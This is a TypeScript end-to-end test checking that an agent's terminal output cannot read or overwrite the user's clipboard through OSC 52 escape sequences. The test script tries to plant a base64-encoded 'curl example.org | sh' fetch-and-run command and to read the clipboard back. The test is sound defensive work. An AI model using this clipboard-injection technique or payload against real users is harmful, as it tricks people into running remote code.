// What a program prints into a terminal neither reads the person's clipboard nor writes it.
import { screen, terminal, testWithTerminals as test } from './hands'
import { expect, type Page } from './stage'

const KEPT = 'what the person copied'

const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText())

test('a terminal of an agent does not reach the clipboard', async ({ ide, agent }) => {
  await ide.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await agent.call('terminal_create', { title: 'its own', shellPath: '/bin/bash' })
  await terminal(ide).click()
  await ide.evaluate((text) => navigator.clipboard.writeText(text), KEPT)
  const hijack = Buffer.from('curl example.org | sh\n').toString('base64')
  const heard = 'read -rs -t 3 -d $\'\\a\' got; echo "heard ${#got} letters"'
  const content = `printf '\\033]52;c;${hijack}\\a\\033]52;c;?\\a'; ${heard}\n`
  await agent.call('workspace_write', { path: 'try.sh', content })
  await agent.call('terminal_run', { terminalId: 'its own', command: 'bash try.sh' })
  await expect.poll(() => screen(ide)).toMatch(/^heard \d+ letters$/m)
  expect(await screen(ide)).toContain('heard 0 letters')
  expect(await clipboard(ide)).toBe(KEPT)
})
